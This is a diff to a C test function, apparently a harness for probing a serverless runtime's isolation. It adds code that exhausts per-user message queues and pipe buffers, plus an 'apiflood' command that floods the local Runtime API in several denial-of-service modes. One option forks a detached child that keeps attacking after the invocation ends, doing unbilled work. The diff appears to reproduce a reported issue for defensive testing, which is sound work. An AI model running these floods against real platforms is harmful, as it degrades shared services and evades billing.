@@ -927,6 +927,11 @@ static void cmd_fdbomb(const char *id) {
 
 /* ================================================================ per-user kernel counters */
 
+/* struct mq_attr, without <mqueue.h> (the probe calls mq_open as a system call). */
+struct mq_attr_probe {
+    long mq_flags, mq_maxmsg, mq_msgsize, mq_curmsgs, reserved[4];
+};
+
 /* Signal queued (and kept queued, blocked) by the ucounts hog. */
 #define UCOUNT_SIGNAL 40
 
@@ -938,6 +943,7 @@ static void cmd_fdbomb(const char *id) {
 static void cmd_ucounts(const char *id, long long hog) {
     static int held_inotify = 0;
     static long long held_signals = 0;
+    static int held_mqueues = 0, held_pipe_mb = 0;
     sigset_t set;
     sigemptyset(&set);
     sigaddset(&set, UCOUNT_SIGNAL);
@@ -960,6 +966,30 @@ static void cmd_ucounts(const char *id, long long hog) {
         jb_kint(&b, "inotify_errno", ierr);
         jb_kint(&b, "signals_held", held_signals);
         jb_kint(&b, "signal_errno", serr);
+        /* POSIX message queues: each of 10 x 8 KB messages charges ~80 KB of the uid's
+         * RLIMIT_MSGQUEUE (819,200 bytes): about ten queues, then EMFILE. Kept open. */
+        int merr = 0;
+        for (int i = 0; i < 64; i++) {
+            char name[32];
+            snprintf(name, sizeof name, "/hearth-hog-%d", i);
+            struct mq_attr_probe attr = {0, 10, 8192, 0, {0}};
+            long q = syscall(SYS_mq_open, name + 1, O_CREAT | O_RDWR | O_CLOEXEC, 0600, &attr);
+            if (q < 0) { merr = errno; break; }
+            held_mqueues++;
+        }
+        /* Pipe buffers: 1 MB each (256 pages) until the uid's fs.pipe-user-pages-soft (16,384
+         * pages) refuses more (EPERM); at most 200 pipes. Slots only: nothing is written. Kept. */
+        int perr = 0;
+        for (int i = 0; i < 200; i++) {
+            int p[2];
+            if (pipe2(p, O_CLOEXEC) < 0) { perr = errno; break; }
+            if (fcntl(p[1], F_SETPIPE_SZ, 1 << 20) < 0) { perr = errno; close(p[0]); close(p[1]); break; }
+            held_pipe_mb++;
+        }
+        jb_kint(&b, "mqueues_held", held_mqueues);
+        jb_kint(&b, "mqueue_errno", merr);
+        jb_kint(&b, "pipe_mb_held", held_pipe_mb);
+        jb_kint(&b, "pipe_errno", perr);
     } else {
         int fd = inotify_init1(IN_CLOEXEC);
         int ierr = fd < 0 ? errno : 0;
@@ -971,6 +1001,20 @@ static void cmd_ucounts(const char *id, long long hog) {
         }
         jb_kint(&b, "inotify_errno", ierr);
         jb_kint(&b, "signal_errno", serr);
+        struct mq_attr_probe attr = {0, 10, 8192, 0, {0}};
+        long q = syscall(SYS_mq_open, "hearth-neighbour", O_CREAT | O_RDWR | O_CLOEXEC, 0600, &attr);
+        jb_kint(&b, "mqueue_errno", q < 0 ? errno : 0);
+        if (q >= 0) { close((int)q); syscall(SYS_mq_unlink, "hearth-neighbour"); }
+        int p[2], perr = 0, size = 0;
+        if (pipe2(p, O_CLOEXEC) < 0) perr = errno;
+        else {
+            size = fcntl(p[1], F_GETPIPE_SZ);
+            if (fcntl(p[1], F_SETPIPE_SZ, 1 << 20) < 0) perr = errno;
+            close(p[0]);
+            close(p[1]);
+        }
+        jb_kint(&b, "pipe_default_size", size);
+        jb_kint(&b, "pipe_errno", perr);
     }
     jb_close(&b, '}');
     respond_json(id, &b);
@@ -1312,6 +1356,127 @@ static void cmd_conns(const char *id, long long n) {
     respond_json(id, &b);
 }
 
+
+/* Issue 11 item 1: a hostile client of the function's own Runtime API (127.0.0.1:9001, as the
+ * issue's attacker used it). mode "noread": pipeline small requests on each connection and never
+ * read the answers; "drain": pipeline and read every answer (the CPU attack); "body": start a
+ * 19 MB POST for a request id that does not exist and keep sending its body; "churn": connect,
+ * send one bad request, close, again. conns <= 7 (the supervisor keeps 8 per instance, one is the
+ * runtime's own), ms <= 10,000. detach=1: a forked, detached child floods for ms after this
+ * invocation has answered (work done while the instance is idle and unbilled); the parent
+ * answers at once. Reports bytes sent and received, answers read and connections the server
+ * closed. */
+static int rapi_connect(void) {
+    struct sockaddr_in sa;
+    memset(&sa, 0, sizeof sa);
+    sa.sin_family = AF_INET;
+    sa.sin_port = htons(9001);
+    inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
+    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    if (s < 0) return -1;
+    if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) { close(s); return -1; }
+    fcntl(s, F_SETFL, O_NONBLOCK);
+    return s;
+}
+
+static void apiflood_run(const char *mode, int conns, long long ms, long long out[4]) {
+    static const char req[] = "GET /x HTTP/1.1\r\nHost: x\r\n\r\n";
+    static char block[28 * 512];
+    static char junk[65536];
+    static char sink[65536];
+    for (size_t i = 0; i + sizeof req - 1 <= sizeof block; i += sizeof req - 1) memcpy(block + i, req, sizeof req - 1);
+    memset(junk, 'j', sizeof junk);
+    int body = !strcmp(mode, "body"), drain = !strcmp(mode, "drain"), churn = !strcmp(mode, "churn");
+    int fds[8];
+    long long sent = 0, received = 0, closed = 0, answers = 0;
+    if (conns < 1) conns = 1;
+    if (conns > 7) conns = 7;
+    if (ms > 10000) ms = 10000;
+    long long until = now_ms(CLOCK_MONOTONIC) + ms;
+    if (churn) {
+        while (now_ms(CLOCK_MONOTONIC) < until) {
+            int s = rapi_connect();
+            if (s < 0) { sleep_ms(1); continue; }
+            fcntl(s, F_SETFL, 0);
+            struct timeval tv = {0, 200000};
+            setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+            if (write(s, "BAD\r\n\r\n", 7) > 0) sent += 7;
+            ssize_t n = read(s, sink, sizeof sink);
+            if (n > 0) { received += n; answers++; }
+            close(s);
+            closed++;
+        }
+        out[0] = sent; out[1] = received; out[2] = answers; out[3] = closed;
+        return;
+    }
+    int n = 0;
+    for (int i = 0; i < conns; i++) {
+        int s = rapi_connect();
+        if (s < 0) continue;
+        if (body) {
+            static const char head[] = "POST /2018-06-01/runtime/invocation/no-such-request/response HTTP/1.1\r\n"
+                                       "Host: x\r\nContent-Length: 19000000\r\n\r\n";
+            if (write(s, head, sizeof head - 1) > 0) sent += (long long)sizeof head - 1;
+        }
+        fds[n++] = s;
+    }
+    int dead[8] = {0};
+    while (now_ms(CLOCK_MONOTONIC) < until) {
+        struct pollfd p[8];
+        for (int i = 0; i < n; i++) p[i] = (struct pollfd){.fd = dead[i] ? -1 : fds[i], .events = POLLOUT | (drain || body ? POLLIN : 0)};
+        if (poll(p, (nfds_t)n, 50) < 0) break;
+        for (int i = 0; i < n; i++) {
+            if (dead[i]) continue;
+            if (p[i].revents & POLLIN) {
+                ssize_t r = read(fds[i], sink, sizeof sink);
+                if (r > 0) {
+                    received += r;
+                    for (ssize_t k = 0; k + 4 < r; k++) if (!memcmp(sink + k, "HTTP", 4)) answers++;
+                } else if (r == 0 || (errno != EAGAIN && errno != EINTR)) {
+                    dead[i] = 1;
+                    closed++;
+                    continue;
+                }
+            }
+            if (p[i].revents & (POLLHUP | POLLERR)) { dead[i] = 1; closed++; continue; }
+            if (p[i].revents & POLLOUT) {
+                ssize_t w = body ? send(fds[i], junk, sizeof junk, MSG_NOSIGNAL) : send(fds[i], block, sizeof block, MSG_NOSIGNAL);
+                if (w > 0) sent += w;
+                else if (w < 0 && errno != EAGAIN && errno != EINTR) { dead[i] = 1; closed++; }
+            }
+        }
+    }
+    for (int i = 0; i < n; i++) close(fds[i]);
+    out[0] = sent; out[1] = received; out[2] = answers; out[3] = closed;
+}
+
+static void cmd_apiflood(const char *id, const char *mode, long long conns, long long ms, long long detach) {
+    long long out[4] = {0, 0, 0, 0};
+    if (detach) {
+        fflush(NULL);
+        pid_t p = fork();
+        if (p == 0) {
+            setsid();
+            if (fork() == 0) { apiflood_run(mode, (int)conns, ms, out); _exit(0); }
+            _exit(0);
+        }
+        if (p > 0) waitpid(p, NULL, 0);
+    } else {
+        apiflood_run(mode, (int)conns, ms, out);
+    }
+    jbuf b = {0};
+    jb_open(&b, '{');
+    jb_kstr(&b, "mode", mode);
+    jb_kint(&b, "detached", detach);
+    jb_kint(&b, "sent", out[0]);
+    jb_kint(&b, "received", out[1]);
+    jb_kint(&b, "answers", out[2]);
+    jb_kint(&b, "closed_by_server", out[3]);
+    jb_close(&b, '}');
+    respond_json(id, &b);
+}
+
+
 /* ================================================================ main loop */
 
 static void handle(const lc_invocation *inv) {
@@ -1424,6 +1589,14 @@ static void handle(const lc_invocation *inv) {
     } else if (!strcmp(cmd, "conns")) {
         json_get_int(body, len, "n", &v);
         cmd_conns(id, v);
+    } else if (!strcmp(cmd, "apiflood")) {
+        char mode[32] = "noread";
+        long long conns = 7, ms = 2000, detach = 0;
+        json_get_str(body, len, "mode", mode, sizeof mode);
+        json_get_int(body, len, "conns", &conns);
+        json_get_int(body, len, "ms", &ms);
+        json_get_int(body, len, "detach", &detach);
+        cmd_apiflood(id, mode, conns, ms, detach);
     } else if (!strcmp(cmd, "ucounts")) {
         json_get_int(body, len, "hog", &v);
         cmd_ucounts(id, v);
